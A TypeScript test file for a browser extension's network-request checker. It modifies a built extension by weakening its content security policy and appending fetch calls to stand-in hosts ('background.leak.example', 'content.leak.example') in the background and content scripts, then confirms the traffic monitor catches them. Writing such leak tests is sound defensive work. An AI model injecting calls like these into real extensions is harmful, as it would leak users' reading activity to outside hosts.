import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { untilMarked } from '../../scripts/driver/reader';
import { until } from '../../scripts/driver/session';
import type { SeenRequest } from '../../scripts/site';
import { useBrowser } from './browser';
import { foreignRequests } from './traffic';

interface BuiltManifest {
  background: { service_worker?: string; scripts?: string[] };
  content_scripts: { js: string[] }[];
  content_security_policy: { extension_pages: string };
}

/** Makes a build that tells on its reader: from the page and, past a weakened policy, from the background. */
function plantRequests(folder: string): void {
  const path = join(folder, 'manifest.json');
  const manifest = JSON.parse(readFileSync(path, 'utf8')) as BuiltManifest;
  manifest.content_security_policy.extension_pages = "script-src 'self'";
  writeFileSync(path, JSON.stringify(manifest));
  const background = manifest.background.service_worker ?? manifest.background.scripts?.[0] ?? '';
  const content = manifest.content_scripts[0]?.js[0] ?? '';
  for (const [script, host] of [
    [background, 'background.leak.example'],
    [content, 'content.leak.example'],
  ] as const) {
    const file = join(folder, script);
    if (!existsSync(file)) throw new Error(`${file} is not there`);
    writeFileSync(file, `${readFileSync(file, 'utf8')}\n;fetch('http://${host}/read').catch(() => {});\n`);
  }
}

describe('the check for network requests', () => {
  const browsing = useBrowser({ alter: plantRequests, expectsForeignRequests: true });

  test('finds requests that are planted in the background and in the page', async () => {
    const page = await browsing.open('/moscou.html');
    await untilMarked(page, 'Sergueï Lavrov');
    await until('both requests', () => {
      const foreign = foreignRequests(browsing.site.seen).join('\n');
      return Promise.resolve(foreign.includes('background.leak.example') && foreign.includes('content.leak.example'));
    });
  });
});

describe('the reading of the traffic', () => {
  const request = (method: string, url: string, headers: SeenRequest['headers'] = {}): SeenRequest => ({ method, url, headers });

  test.each([
    ['a page of the site', request('GET', 'http://journal.localhost/a.html', { 'sec-fetch-dest': 'document' }), 0],
    ['its styles', request('GET', 'http://journal.localhost/a.css', { 'sec-fetch-dest': 'style' }), 0],
    ['the browser’s own update', request('CONNECT', 'update.googleapis.com:443'), 0],
    ['another host', request('GET', 'http://tracker.example/'), 1],
    ['another host, encrypted', request('CONNECT', 'tracker.example:443'), 1],
    ['a fetch to the site itself', request('GET', 'http://journal.localhost/a.json', { 'sec-fetch-dest': 'empty' }), 1],
    [
      'an image asked for by an extension',
      request('GET', 'http://journal.localhost/a.png', { 'sec-fetch-dest': 'image', origin: 'chrome-extension://x' }),
      1,
    ],
  ])('%s', (_, seen, count) => {
    expect(foreignRequests([seen])).toHaveLength(count);
  });
});
